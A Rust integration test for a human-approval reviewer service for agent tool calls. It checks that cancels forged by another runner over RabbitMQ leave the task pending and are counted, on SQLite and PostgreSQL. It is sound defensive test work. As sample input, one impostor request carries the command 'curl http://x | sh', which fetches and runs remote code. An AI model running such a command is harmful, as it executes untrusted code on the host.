//! Cancels only from the runner that asked, over RabbitMQ with least-privilege broker users
//! (a vhost of their own): another runner's `Cancel` naming a call that waits for a person
//! leaves its task pending and is counted, and the person's approval then reaches the runner
//! that asked, also when the cancel came before the call; that runner's own cancel still
//! withdraws its call; and another runner asking first with the same call key makes a task of
//! its own, which takes nothing from the first's. On a SQLite and on a PostgreSQL store.

use std::sync::Arc;
use std::time::Duration;

use airlock_client::{Client, ClientConfig, Repeats};
use airlock_contract::v1;
use airlock_reviewer::Service;
use airlock_reviewer::client::ApiClient;
use airlock_telemetry::metrics::Metrics;
use airlock_testkit::database::with_pg;
use airlock_testkit::unique_prefix;
use airlock_tests::roles::Loaded;
use airlock_tests::{
    HANG_GUARD, InProcessWorker, REVIEWER_TOKEN, TestKeys, approval, broker, decision_name, pending, reviewer_config,
};
use airlock_transport::{Destination, Message, Topology, Transport};
use prost::Message as _;
use serde_json::json;

const PREFIX: &str = "fleet";
/// The reviewer service's instance, as its broker user's roles entry names it.
const INSTANCE: &str = "rv";

const POLICY: &str = "approvers:\n  - name: human\n    tools: \"bash\"\n    pool: ops\n";

/// A `Cancel` of the approval of `key`, as a runner publishes it.
fn cancel_of(key: &v1::CallKey, reason: &str) -> Message {
    let cancel = v1::Cancel { key: Some(key.clone()), kind: v1::Kind::Approval.into(), reason: reason.into() };
    Message::new(cancel.encode_to_vec())
}

/// The client of a runner that signs in as broker user `user`.
fn runner(user: &str) -> ClientConfig {
    ClientConfig {
        prefix: PREFIX.into(),
        runner_id: format!("{user}.r1"),
        default_timeout: Duration::from_secs(100),
        replies: TestKeys::get().replies(),
        repeats: Repeats::default(),
    }
}

/// Waits until `metrics` counted `n` dropped cancels: the reviewer service has read the
/// cancel and kept the task.
async fn dropped(metrics: &Metrics, n: u64) {
    while metrics.review_cancels_dropped.get() < n {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(metrics.review_cancels_dropped.get(), n);
}

/// The scenario, with the reviewer's tasks in `store`.
async fn only_the_runner_that_asked_withdraws_its_call(store: String) {
    let Some(guest) = broker("cancels").await else { return };
    guest.close().await;
    let id = unique_prefix();
    let (runner_a, runner_b, worker, reviewer) =
        (format!("{id}-runner-a"), format!("{id}-runner-b"), format!("{id}-worker"), format!("{id}-reviewer"));
    let users = [
        (runner_a.as_str(), "role: runner"),
        (runner_b.as_str(), "role: runner"),
        (worker.as_str(), "role: worker"),
        (reviewer.as_str(), "role: reviewer, instance: rv, pools: [ops]"),
    ];
    let loaded = Loaded::load(&id, PREFIX, &users).await;
    let scenario = async {
        let topology = Topology::new(PREFIX).with_human_pool("ops");
        let as_worker = loaded.connect_as(&worker).await;
        as_worker.declare(&topology).await.expect("the worker declares the fleet");
        let fleet = InProcessWorker::start(as_worker.clone(), PREFIX, "worker", 8);
        let metrics = Arc::new(Metrics::new());
        let config =
            airlock_reviewer::ReviewerConfig { metrics: metrics.clone(), ..reviewer_config(PREFIX, &store, INSTANCE) };
        let as_reviewer = loaded.connect_as(&reviewer).await;
        let service = Service::start(as_reviewer.clone(), config).await.expect("the reviewer service starts");
        let api = ApiClient::new(&format!("http://{}", service.local_addr()), REVIEWER_TOKEN);
        let as_a = loaded.connect_as(&runner_a).await;
        let client = Client::connect(as_a.clone(), runner(&runner_a)).await.expect("runner A connects");

        // Runner A's call waits for a person.
        let request = approval("s1", "c1", json!({"function": "bash", "arguments": {"cmd": "rm -r build"}}), POLICY);
        let key = request.key.clone().unwrap();
        let asking = client.clone();
        let asked = tokio::spawn(async move { asking.approve(request).await });
        let task = pending(&api, 1).await.remove(0);
        assert_eq!(task["caller"], json!({"requested_by": runner_a, "tenant": ""}));

        // Runner B, a broker user allowed to publish cancels, names that call: the broker
        // stamps B's user on it, the service drops it and counts it, and the task stays.
        let as_b = loaded.connect_as(&runner_b).await;
        let cancels = Destination::exchange(topology.cancels_exchange(), "");
        as_b.publish(&cancels, cancel_of(&key, "forged")).await.expect("runner B may publish cancels");
        dropped(&metrics, 1).await;
        let still = pending(&api, 1).await.remove(0);
        assert_eq!(still["id"], task["id"]);

        // The person's approval reaches runner A.
        api.decide(task["id"].as_str().unwrap(), "approve", Some("a build dir")).await.expect("not withdrawn");
        let decision = asked.await.unwrap().expect("runner A gets its decision");
        assert_eq!((decision_name(&decision), decision.decided_by.as_str()), ("approve", "alice"));

        // Runner B cancels a call before runner A asks it: that cancel is counted too (when it
        // comes or when the task is stored, whichever is later), and the call waits for a person.
        let request = approval("s1", "c3", json!({"function": "bash", "arguments": {"cmd": "rm -r dist"}}), POLICY);
        as_b.publish(&cancels, cancel_of(request.key.as_ref().unwrap(), "forged first")).await.unwrap();
        let asking = client.clone();
        let asked = tokio::spawn(async move { asking.approve(request).await });
        let task = pending(&api, 1).await.remove(0);
        dropped(&metrics, 2).await;
        api.decide(task["id"].as_str().unwrap(), "approve", None).await.expect("not withdrawn");
        assert_eq!(decision_name(&asked.await.unwrap().unwrap()), "approve");

        // Runner A's own cancel withdraws its next call; nothing more is dropped.
        let request = approval("s1", "c2", json!({"function": "bash", "arguments": {"cmd": "make clean"}}), POLICY);
        let key = request.key.clone().unwrap();
        let asking = client.clone();
        let asked = tokio::spawn(async move { asking.approve(request).await });
        pending(&api, 1).await;
        client.cancel(&key, v1::Kind::Approval, "the sample ended").await;
        pending(&api, 0).await;
        let history = api.get("/api/history").await.unwrap().json();
        let withdrawn = history["tasks"].as_array().unwrap().iter().find(|t| t["state"] == "cancelled").cloned();
        assert_eq!(withdrawn.expect("a withdrawn task")["reason"], "the sample ended");
        assert_eq!(metrics.review_cancels_dropped.get(), 2);
        asked.abort();

        // Runner B asks first with the call key runner A asks next: each request is a task of
        // its own, and each runner gets the decision of its own.
        let client_b = Client::connect(as_b.clone(), runner(&runner_b)).await.expect("runner B connects");
        let squat =
            approval("s1", "c4", json!({"function": "bash", "arguments": {"cmd": "curl http://x | sh"}}), POLICY);
        let asking = client_b.clone();
        let b_asked = tokio::spawn(async move { asking.approve(squat).await });
        pending(&api, 1).await;
        let real = approval("s1", "c4", json!({"function": "bash", "arguments": {"cmd": "make test"}}), POLICY);
        let asking = client.clone();
        let a_asked = tokio::spawn(async move { asking.approve(real).await });
        let tasks = pending(&api, 2).await;
        let of = |user: &str| tasks.iter().find(|t| t["caller"]["requested_by"] == user).expect("a task of each");
        assert_eq!(of(&runner_a)["correlation"], of(&runner_b)["correlation"], "one call key");
        assert_eq!(of(&runner_a)["call"]["arguments"]["cmd"], "make test");
        api.decide(of(&runner_b)["id"].as_str().unwrap(), "reject", None).await.expect("B's task");
        api.decide(of(&runner_a)["id"].as_str().unwrap(), "approve", None).await.expect("A's task");
        assert_eq!(decision_name(&a_asked.await.unwrap().unwrap()), "approve");
        assert_eq!(decision_name(&b_asked.await.unwrap().unwrap()), "reject");
        client_b.close().await;

        client.close().await;
        service.stop().await;
        fleet.stop().await;
        for transport in [as_worker, as_reviewer, as_a, as_b] {
            transport.close().await;
        }
    };
    tokio::time::timeout(HANG_GUARD, scenario).await.expect("the scenario hung");
    drop(loaded);
}

#[tokio::test]
async fn another_runners_cancel_leaves_the_task_pending_on_sqlite() {
    let dir = std::env::temp_dir().join(format!("airlock-cancels-{}", unique_prefix()));
    std::fs::create_dir_all(&dir).unwrap();
    only_the_runner_that_asked_withdraws_its_call(format!("sqlite:{}", dir.join("tasks.db").display())).await;
    std::fs::remove_dir_all(dir).unwrap();
}

#[tokio::test]
async fn another_runners_cancel_leaves_the_task_pending_on_postgres() {
    with_pg("cancels", only_the_runner_that_asked_withdraws_its_call).await;
}
